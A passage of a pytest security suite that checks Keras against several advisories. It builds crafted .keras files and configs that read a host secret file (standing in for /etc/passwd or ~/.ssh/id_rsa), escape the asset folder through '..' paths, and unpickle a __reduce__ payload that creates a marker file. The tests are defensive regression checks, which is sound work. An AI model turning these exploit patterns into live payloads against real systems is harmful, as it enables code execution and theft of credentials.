    secret = tmp_path / "host_secret.txt"  # stands for /etc/passwd, ~/.ssh/id_rsa
    secret.write_text("\n".join(SECRET_TOKENS) + "\n")
    entry["config"]["vocabulary"] = str(secret)
    evil = write_keras_zip(tmp_path / "evil.keras", members, config)

    def read(tokens: list[str] | None) -> bool:
        return tokens is not None and all(t in tokens for t in SECRET_TOKENS)

    tokens, refusal = lookup_vocabulary(keras, evil)

    def unsafe_load() -> tuple[bool, str]:
        tokens, refusal = lookup_vocabulary(keras, evil, safe_mode=False)
        return read(tokens), "load_model(safe_mode=False): the vocabulary " + (
            "holds the file's tokens" if read(tokens) else f"does not ({refusal or tokens})")

    judge_advisory(measure, advisory, read(tokens),
                   "the loaded vocabulary holds the host file's tokens" if read(tokens)
                   else f"refused: {refusal}" if refusal else f"loaded without them: {tokens}",
                   unsafe_load)


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_gh82_f9x8_5frx_an_asset_path_stays_in_its_folder(keras, tmp_path, measure):
    """GHSA-gh82-f9x8-5frx / CVE-2026-12479 (fixed in 3.12.3 and 3.15.0): DiskIOStore, the
    asset folder of the .keras saver and loader, joins a '..' asset path onto its folder and
    creates it there. The path comes from the names of the objects it saves (the advisory: a
    crafted layer name); no built-in layer puts a file's name into it (keras#23017), so the row
    hands the store the path itself."""
    advisory = ("GHSA-gh82-f9x8-5frx (CVE-2026-12479) "
                "[fixed in 3.12.3, 3.15.0]: an asset path leaves DiskIOStore's folder")
    saving_lib = keras_module(keras, "saving.saving_lib")
    advisory_needs(measure, advisory, hasattr(saving_lib, "DiskIOStore"),
                   "no saving_lib.DiskIOStore here")
    root = tmp_path / "model" / "assets"
    root.mkdir(parents=True)
    payload = "layer/../../escaped"  # what a layer named '..' nested twice would make
    escaped = tmp_path / "model" / "escaped"
    store = saving_lib.DiskIOStore(str(root), mode="r")  # a model folder's assets, as loaded
    try:
        store.make(payload)
        refusal = None
    except Exception as exc:  # refused: the safe outcome
        refusal = describe(exc)
    finally:
        store.close()
    exploited = escaped.is_dir()

    def join_unchecked() -> tuple[bool, str]:
        # The same store's make with its one containment check off: Keras offers no switch,
        # so _full_path (the check, then the join) becomes the bare join it replaced.
        store_class = saving_lib.DiskIOStore
        if not hasattr(store_class, "_full_path"):
            raise RuntimeError("this DiskIOStore has no _full_path: the control cannot turn "
                               "its check off")
        checked = store_class._full_path
        store_class._full_path = lambda self, path: os.path.join(self.working_dir, path)
        try:
            unchecked = store_class(str(root), mode="r")
            unchecked.make(payload)
            unchecked.close()
        finally:
            store_class._full_path = checked
        return escaped.is_dir(), "DiskIOStore.make with its path check off: " + (
            "<tmp>/model/escaped made" if escaped.is_dir() else "nothing made")

    judge_advisory(measure, advisory, exploited,
                   f"make({payload!r}) created <tmp>/model/escaped outside <tmp>/model/assets"
                   if exploited else f"refused: {refusal}" if refusal else "nothing made",
                   join_unchecked)


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_5gwj_m78q_7pq3_from_config_does_not_run_lambda_code(keras, tmp_path, measure):
    """GHSA-5gwj-m78q-7pq3 / CVE-2026-12481 (fixed in 3.12.3 and 3.15.0): outside load_model's
    safe-mode scope, Lambda.from_config treats an unset safe_mode as off, so
    Sequential.from_config on an untrusted config whose Lambda entry has no "module" (the
    legacy form, routed past the safe-mode scope) loads its marshalled code, which runs on the
    first call."""
    advisory = ("GHSA-5gwj-m78q-7pq3 (CVE-2026-12481) "
                "[fixed in 3.12.3, 3.15.0]: from_config runs Lambda code")
    marker = tmp_path / "lambda.marker"
    entry = {"class_name": "Lambda",
             "config": keras.layers.Lambda(marker_lambda(marker), name="payload").get_config()}
    config = {"name": "untrusted", "layers": [entry]}

    def build_and_call() -> str | None:
        try:
            with contextlib.redirect_stdout(sys.stderr):
                keras.Sequential.from_config(config)(np.ones((1, 1), "float32"))
        except Exception as exc:  # refused: the safe outcome
            return describe(exc)
        return None

    marker.unlink(missing_ok=True)
    refusal = build_and_call()
    serialization_lib = keras_module(keras, "saving.serialization_lib")

    def in_unsafe_scope() -> tuple[bool, str]:
        # SafeModeScope(False): enable_unsafe_deserialization() for this block only
        if not hasattr(serialization_lib, "SafeModeScope"):
            return False, "no SafeModeScope here to switch the check off"
        with serialization_lib.SafeModeScope(False):
            return fires(marker, build_and_call,
                         "Sequential.from_config in SafeModeScope(False), then a call: the Lambda")

    judge_advisory(measure, advisory, marker.exists(),
                   "Sequential.from_config(config), then a call: the Lambda ran"
                   if marker.exists() else f"refused: {refusal}",
                   in_unsafe_scope)


def pickle_payload(marker: Path) -> bytes:
    """A pickle whose unpickling only creates `marker`: torch.load(weights_only=False) of a
    non-zip buffer unpickles its first object (the 'magic number') before failing."""

    class Payload:
        def __reduce__(self):
            return open, (str(marker), "w")

    return pickle.dumps(Payload(), protocol=2)


def identity_wrapper(wrapper, torch):
    """TorchModuleWrapper(torch.nn.Identity()) with a declared output shape (needed to call it
    on a symbolic input from 3.10 on), or without one where the argument is unknown (3.9 and
    before)."""
    try:
        return wrapper(torch.nn.Identity(), output_shape=(None, 4))
    except (TypeError, ValueError) as exc:
        if "output_shape" not in str(exc):
            raise
        return wrapper(torch.nn.Identity())


def torch_wrapper_config(keras, measure, advisory: str):
    """The class and the config of a real TorchModuleWrapper (around torch.nn.Identity), or a
    not-applicable cell with the reason observed here. With PyTorch installed the wrapper builds
    on any backend, so the reason is never the backend's name."""
    wrapper = getattr(keras.layers, "TorchModuleWrapper", None)
    advisory_needs(measure, advisory, wrapper is not None,
                   "no keras.layers.TorchModuleWrapper here")
    advisory_needs(measure, advisory, importlib.util.find_spec("torch") is not None,
                   "no PyTorch here, whose torch.load the wrapper calls")
    import torch

    try:
        with contextlib.redirect_stdout(sys.stderr):
            config = identity_wrapper(wrapper, torch).get_config()
    except Exception as exc:  # the class is there, not for this backend
        advisory_needs(measure, advisory, False, "no TorchModuleWrapper builds on this "
                       f"backend, so no file or config can bring one: {describe(exc)}")
    advisory_needs(measure, advisory, "module" in config,
                   "this TorchModuleWrapper's config carries no pickled module")
    return wrapper, config


def module_field(config: dict, payload: bytes):
    """The payload as the config carries the module: base64 text (Keras 3.11 on) or bytes."""
    if isinstance(config["module"], str):
        return base64.b64encode(payload).decode("ascii")
    return payload


def plain(text: str) -> str:
    """PyTorch's messages without their terminal colour codes."""
    return re.sub(r"\x1b\[[0-9;]*m", "", text)


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_v2w2_w228_c444_torch_module_wrapper_config_is_not_unpickled_by_default(
        keras, tmp_path, measure):
    """GHSA-v2w2-w228-c444 / CVE-2026-12484 (fixed in 3.12.3 and 3.15.0): the public
    TorchModuleWrapper.from_config, called outside any safe-mode scope (a process that never
    called load_model), runs torch.load(weights_only=False) on the config's module. 3.11.3
    already refused it inside load_model's scope (CVE-2025-49655, the next test); the fix treats
    an unset safe mode as safe."""
    advisory = ("GHSA-v2w2-w228-c444 (CVE-2026-12484) "
                "[fixed in 3.12.3, 3.15.0]: TorchModuleWrapper.from_config unpickles")
    wrapper, config = torch_wrapper_config(keras, measure, advisory)
    global_state = keras_module(keras, "backend.common.global_state")
    marker = tmp_path / "unpickled.marker"
    evil = {**config, "module": module_field(config, pickle_payload(marker))}

    def from_config(ambient) -> str | None:
        """from_config with the ambient safe mode `ambient` (None: no scope at all; False:
        what SafeModeScope(False) sets), restored after."""
        before = global_state.get_global_attribute("safe_mode_saving")
        global_state.set_global_attribute("safe_mode_saving", ambient)
        try:
            with contextlib.redirect_stdout(sys.stderr):
                wrapper.from_config(dict(evil))
        except Exception as exc:  # refused, or torch.load failed after unpickling
            return plain(describe(exc))
        finally:
            global_state.set_global_attribute("safe_mode_saving", before)
        return None

    def torch_load() -> str | None:
        import torch

        try:
            torch.load(io.BytesIO(pickle_payload(marker)), weights_only=False)
        except Exception as exc:  # after unpickling, the bytes are no torch file
            return plain(describe(exc))
        return None

    def control() -> tuple[bool, str]:
        fired, what = fires(marker, lambda: from_config(False),
                            "from_config under SafeModeScope(False): the pickle")
        if fired or "Weights only load failed" not in what:
            return fired, what
        # Keras before 3.10 calls torch.load with torch's own default, weights_only=True
        # since torch 2.6: that default is the defence here, and the control turns it off
        return fires(marker, torch_load,
                     f"{what}; torch.load(weights_only=False) of the same bytes")

    marker.unlink(missing_ok=True)
    refusal = from_config(None)
    judge_advisory(measure, advisory, marker.exists(),
                   "torch.load unpickled the config's module" if marker.exists()
                   else f"refused: {refusal}", control)


def replace_module(node, field) -> int:
    """config.json with every TorchModuleWrapper's module replaced by `field`; the count."""
    count = 0
    if isinstance(node, dict):
        if node.get("class_name") == "TorchModuleWrapper" and "module" in node.get("config", {}):
            node["config"]["module"] = field
            count += 1
        for value in node.values():
            count += replace_module(value, field)
    elif isinstance(node, list):
        for value in node:
            count += replace_module(value, field)
    return count


@pytest.mark.claim("q1-load-untrusted-files")
def test_cve_2025_49655_a_keras_file_torch_module_is_not_unpickled_in_safe_mode(
        keras, tmp_path, measure):
    """CVE-2025-49655 (Keras 3.11.0 to 3.11.2; fixed in 3.11.3): load_model's default safe_mode
    runs torch.load(weights_only=False) on a TorchModuleWrapper's module in the .keras file."""
    advisory = "CVE-2025-49655 [fixed in 3.11.3]: TorchModuleWrapper in a .keras file unpickles"
    wrapper, config = torch_wrapper_config(keras, measure, advisory)
    import torch

    inputs = keras.Input((4,))
    path = tmp_path / "torch.keras"
    try:
        with contextlib.redirect_stdout(sys.stderr):
            keras.Model(inputs, identity_wrapper(wrapper, torch)(inputs)).save(str(path))
    except Exception as exc:  # Keras 3.0 to 3.10 keep the module as bytes, JSON cannot
        advisory_needs(measure, advisory, False,
                       "no .keras file can carry a TorchModuleWrapper's module here: saving "
                       f"one fails ({describe(exc)}), and from_config reads the module as "
                       "bytes, which config.json cannot hold")
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    marker = tmp_path / "unpickled.marker"
    file_config = json.loads(members["config.json"])
    if not replace_module(file_config, module_field(config, pickle_payload(marker))):
        raise RuntimeError("no TorchModuleWrapper module in config.json: the check is broken")
    evil = write_keras_zip(tmp_path / "evil.keras", members, file_config)
    marker.unlink(missing_ok=True)
    refusal = load_refusal(keras, evil)
    judge_advisory(measure, advisory, marker.exists(),
                   "torch.load unpickled the file's module" if marker.exists()
                   else f"refused: {plain(refusal or '')}",
                   lambda: fires(marker, lambda: load_refusal(keras, evil, safe_mode=False),
                                 "load_model(safe_mode=False): the pickle"))
